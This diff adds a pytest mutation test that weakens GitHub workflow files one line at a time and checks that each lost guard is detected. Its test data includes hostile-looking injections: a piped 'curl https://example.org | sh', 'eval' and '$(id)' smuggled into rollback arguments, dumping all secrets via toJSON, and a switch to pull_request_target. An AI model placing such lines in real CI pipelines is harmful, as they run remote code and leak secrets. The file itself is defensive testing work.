@@ -1,0 +1,95 @@
+"""No guard of the workflow files can be taken away unseen: each of these changes is found."""
+
+# ruff: noqa: E501 (a change is a line)
+
+from __future__ import annotations
+
+import pytest
+
+from tests.workflows.files import Workflows
+from tests.workflows.test_rules import RULES, reviewed
+
+DEPLOY, DRIFT, ENVIRONMENT = "deploy.yml", "drift.yml", "environment.yml"
+PREVIEW, PULL, ROLLBACK = "preview.yml", "pull-request.yml", "rollback.yml"
+STEPS = "    steps:\n"
+VERIFY = "      - name: Verify the build and where it came from\n"
+PREFLIGHT = "      - name: Refuse what must not go live here\n"
+APPLY = "        if: steps.plan.outputs.changes == 'true'\n"
+ATTEST = "      - name: Attest\n"
+REPORT = 'ship ci report environment "$ENVIRONMENT"'
+CHECKOUT = "        with:\n          persist-credentials: false\n"
+NEVER = "        if: inputs.environment != 'production'\n"
+OWN = "github.event.pull_request.head.repo.full_name == github.repository"
+
+FILES = Workflows.read()
+LAST = FILES.environments[-1]
+LIST = f"environment: [{', '.join(FILES.environments)}]"
+
+# A file, what goes, and what comes instead, once.
+REMOVALS = [
+    # What goes live is what was built, attested, and may go live.
+    (ENVIRONMENT, VERIFY, VERIFY + NEVER),
+    (ENVIRONMENT, VERIFY, VERIFY + "        continue-on-error: true\n"),
+    (ENVIRONMENT, '--digest="$DIGEST" --for="$ENVIRONMENT"', '--digest="$DIGEST"'),
+    (ENVIRONMENT, "DIGEST: ${{ inputs.digest }}", "DIGEST: ${{ inputs.environment }}"),
+    (ENVIRONMENT, PREFLIGHT, PREFLIGHT + NEVER),
+    (ENVIRONMENT, "ship ci preflight", "ship ci verify"),
+    (ENVIRONMENT, APPLY, "        if: always()\n"),
+    (ENVIRONMENT, " --plan deploy.tfplan", ""),
+    (ENVIRONMENT, 'deploy "$ENVIRONMENT" --dist dist', 'deploy "$ENVIRONMENT"'),
+    (ENVIRONMENT, "          path: dist\n", "          path: dist\n          run-id: 7\n"),
+    (DEPLOY, ATTEST, ATTEST + "        if: github.actor != 'octocat'\n"),
+    (DEPLOY, "subject-name: manifest.json\n", "subject-path: pyproject.toml\n"),
+    (DEPLOY, "          overwrite: true # by a second attempt of this run, with the same bytes\n", ""),
+    (DEPLOY, "needs: [build, attest]", "needs: [build]"),
+    (DEPLOY, f"{LAST}\n      digest: ${{{{ needs.build", f"{LAST}\n      digest: ${{{{ needs.attest"),
+    (DEPLOY, f"    name: Promote to {LAST}\n", f"    name: {LAST}\n    if: always()\n"),
+    # Nothing else runs beside a role.
+    (ENVIRONMENT, REPORT, f"{REPORT}; curl https://example.org | sh"),
+    (ROLLBACK, '--to="$RELEASE" --reason="$REASON"', '--to="$RELEASE" && eval "$REASON"'),
+    (ROLLBACK, '--to="$RELEASE"', '--to="$(id)"'),
+    (ENVIRONMENT, CHECKOUT, f"{CHECKOUT}          repository: other/repository\n"),
+    (ENVIRONMENT, CHECKOUT, f"{CHECKOUT}          ref: ${{{{ github.head_ref }}}}\n"),
+    (PULL, "          ref: ${{ github.event.pull_request.base.sha }}\n", ""),
+    (ENVIRONMENT, STEPS, f"    container: python:latest\n{STEPS}"),
+    (ENVIRONMENT, "    env:\n", "    env:\n      BASH_ENV: dist/site/index.html\n"),
+    (ENVIRONMENT, "        run: make setup", "        shell: python\n        run: make setup"),
+    (ENVIRONMENT, "runs-on: ubuntu-24.04", "runs-on: [self-hosted]"),
+    (DEPLOY, "permissions: {}\n", "permissions: {}\nenv:\n  PYTHONPATH: dist\n"),
+    (DEPLOY, "shell: bash", "shell: bash -c 'curl https://example.org | sh; . {0}'"),
+    # Tokens and roles go no further.
+    (ENVIRONMENT, "          allowed-account-ids: ${{ vars.AWS_ACCOUNT_ID }}\n", ""),
+    (ROLLBACK, "deploy-${{ inputs.environment }}", "deploy-production"),
+    (ENVIRONMENT, "          GITHUB_TOKEN: ${{ github.token }}\n", ""),
+    (ENVIRONMENT, CHECKOUT, CHECKOUT.replace("false", "true")),
+    (PULL, "          PART: ${{ matrix.part }}\n", "          PART: ${{ secrets['X'] }}\n"),
+    (PULL, "          PART: ${{ matrix.part }}\n", "          PART: ${{ toJSON(secrets) }}\n"),
+    (DEPLOY, "      contents: read # to check the commit out\n", "      contents: write # why not\n"),
+    (PREVIEW, f"    if: >-\n      {OWN}\n", "    if: >-\n      github.actor != 'stranger'\n"),
+    (DRIFT, "    if: github.ref == 'refs/heads/main'\n", ""),
+    (DEPLOY, "branches: [main]", 'branches: [main, "release/**"]'),
+    (PULL, "  pull_request:\n", "  pull_request_target:\n"),
+    (ENVIRONMENT, "      name: ${{ startsWith", "      name: ${{ false && startsWith"),
+    # A pin is a commit, however it is written.
+    (PULL, "uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1", '"uses": actions/checkout@v7'),
+    (PULL, "      - name: Check\n", "      - { uses: actions/setup-python@v6 }\n      - name: Check\n"),
+    # Nothing is cut short, left out, or passed over.
+    (ENVIRONMENT, "cancel-in-progress: false", "cancel-in-progress: true"),
+    (ENVIRONMENT, "      queue: max\n", ""),
+    (DRIFT, LIST, "environment: [another]"),
+    (PULL, "        if: contains(needs.*", "        if: github.event_name == 'push' && contains(needs.*"),
+    (PULL, "          needs.check.result != 'success' ||", "          github.event_name == 'push' &&"),
+    (PULL, "coverage, build, plan,", "coverage, build,"),
+    (PULL, "    if: always()\n", "    if: success()\n"),
+    (PULL, "    name: Test the application\n", "    name: Test the application\n    if: false\n"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("file", "old", "new"), REMOVALS)
+def test_a_guard_that_is_taken_away_is_missed(file: str, old: str, new: str) -> None:
+    assert old in FILES.texts[file]
+    changed = Workflows(FILES.texts | {file: FILES.texts[file].replace(old, new, 1)})
+
+    found = [problem for rule in RULES for problem in rule(changed)]
+
+    assert found or changed.privileged_jobs() != reviewed()
